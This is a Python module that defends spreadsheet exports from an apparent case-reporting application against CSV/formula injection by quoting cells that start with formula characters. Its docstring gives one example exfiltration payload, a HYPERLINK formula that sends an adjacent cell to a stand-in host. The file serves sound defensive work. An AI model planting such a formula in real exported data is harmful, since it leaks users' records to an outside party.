"""Cell values that a spreadsheet will show as text, never run as a formula.

A title, a party's name or an authority is typed by whoever reports a case; a
ledger exported from it is opened in Excel, WPS or LibreOffice by a supervisor.
A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one of them) is read there as a formula, so ``=HYPERLINK("http://x/?"&A1,"点击")``
would send the neighbouring cell away at a click. Following OWASP's guidance on
CSV injection, such text gets a leading single quote, the spreadsheet's own
"this is text" mark. Numbers stay numbers: an int or float is never touched, and
text that is only a number (``-3``, ``12.5%``) is no formula either.

Every writer calls :func:`text_cell` once per cell (XLSX through :func:`xlsx_cell`,
which also marks the cell as a string), and templates get a copy of their dataset
passed through :func:`neutralised`.
"""

from __future__ import annotations

import re
from typing import Any

from disputeflow.workflow.inputs import strip_controls

# The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?%?")


def text_cell(value: Any) -> Any:
    """``value`` as a cell: text without control characters, and with a leading ``'`` where a spreadsheet
    would run it; anything else unchanged.

    Control characters are refused at input, but rows stored before (or imported from another system)
    may hold one, and a single bell character makes a whole XLSX file unreadable.
    """
    value = strip_controls(value)
    if not isinstance(value, str) or not value.startswith(FORMULA_LEADS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralised(value: Any) -> Any:
    """A copy of a dataset (dicts, lists) with :func:`text_cell` applied to every string in it.

    Markup (already rendered HTML such as the charts) is left as it is: it is
    ours, not typed by a user, and must stay marked safe.
    """
    if isinstance(value, str):
        return value if hasattr(value, "__html__") else text_cell(value)
    if isinstance(value, dict):
        return {k: neutralised(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [neutralised(v) for v in value]
    return value


def xlsx_cell(ws, value: Any):
    """An openpyxl cell for ``ws`` holding ``value``; text is stored as a string, never as a formula."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, text_cell(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # openpyxl would otherwise infer a formula ('=…') or an error code ('#N/A')
    return cell
